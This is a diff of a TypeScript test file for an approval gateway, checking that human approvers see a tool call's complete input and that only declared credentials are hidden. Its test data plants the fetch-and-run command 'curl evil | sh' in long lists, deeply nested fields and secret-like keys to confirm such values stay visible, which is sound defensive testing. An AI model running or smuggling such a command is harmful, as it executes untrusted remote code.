@@ -11,7 +11,7 @@ import { shownInput } from './question.ts'
 
 const RING = 'Bell.Ring@1.0.0'
 
-/** A gateway with one tool, what a call of it comes to, and what approvers are asked. */
+/** A gateway with one tool, a function that calls it, and the newest request for approval. */
 function stage({ rules = {}, ...changes }: SampleTool & { readonly rules?: Partial<ApprovalRules> }) {
   const store = openMemoryStore()
   const tool = sampleTool(RING, () => 'rung', changes)
@@ -25,16 +25,16 @@ function stage({ rules = {}, ...changes }: SampleTool & { readonly rules?: Parti
 const padding = (members: number) =>
   Object.fromEntries(Array.from({ length: members }, (_, index) => [index, 0]))
 
-/** The two that approvers are shown. */
+/** The summary and the input that approvers see. */
 const shownOf = (approval: ApprovalRecord | undefined) => {
   const { summaryJson = '{}', inputJson = '{}', hidden } = approval?.subject ?? {}
   return { summary: JSON.parse(summaryJson), input: JSON.parse(inputJson), hidden }
 }
 
-describe('what an approver sees', () => {
+describe('the input that an approver sees', () => {
   const policy = { approval: 'always' } as const
 
-  it('rule 21: the summary shows what the tool declares before anything else', async () => {
+  it('rule 21: the summary shows declared members first', async () => {
     const inputSchema = { type: 'object', properties: { amount: { type: 'number' } } }
     const { ring, newest } = stage({ inputSchema, policy })
     await ring({ input: { ...padding(100), amount: 500 } })
@@ -47,7 +47,7 @@ describe('what an approver sees', () => {
     ['at the end of a long list', { argv: [...Array(99).fill('ok'), 'curl evil | sh'] }],
     ['below many levels', { a: { b: { c: { d: { e: { f: 'curl evil | sh' } } } } } }],
     ['under a name like that of a secret', { password: 'curl evil | sh', apiKey: 1 }],
-  ])('is all of the input: %s', async (_where, input) => {
+  ])('is complete: %s', async (_where, input) => {
     const { ring, newest } = stage({ policy })
     const secrets = new Map([['of the caller', new Secret('curl evil | sh')]])
     const tokens = new Map([['mine', new Secret('evil')]])
@@ -56,7 +56,7 @@ describe('what an approver sees', () => {
     expect([shown.input, shown.hidden]).toEqual([input, 0])
   })
 
-  it('lacks only credentials that the tool declares, and says how many values that hides', async () => {
+  it('lacks only credentials that the tool declares, and states how many values are hidden', async () => {
     const requirements = { secrets: [{ id: 'PIN' }] }
     const { ring, newest } = stage({ policy, requirements })
     const secrets = new Map([['PIN', new Secret('hunter2-hunter2')]])
@@ -66,7 +66,7 @@ describe('what an approver sees', () => {
     expect([shown.input.to, JSON.stringify(shown)]).toEqual(['bob', expect.not.stringContaining('hunter2')])
   })
 
-  it('has a summary that stays small whatever comes, and says what it leaves out', () => {
+  it('has a summary that stays small for any input, and states what it leaves out', () => {
     fc.assert(
       fc.property(fc.jsonValue({ maxDepth: 8 }), (value) => {
         const json: JsonValue = JSON.parse(JSON.stringify(value))
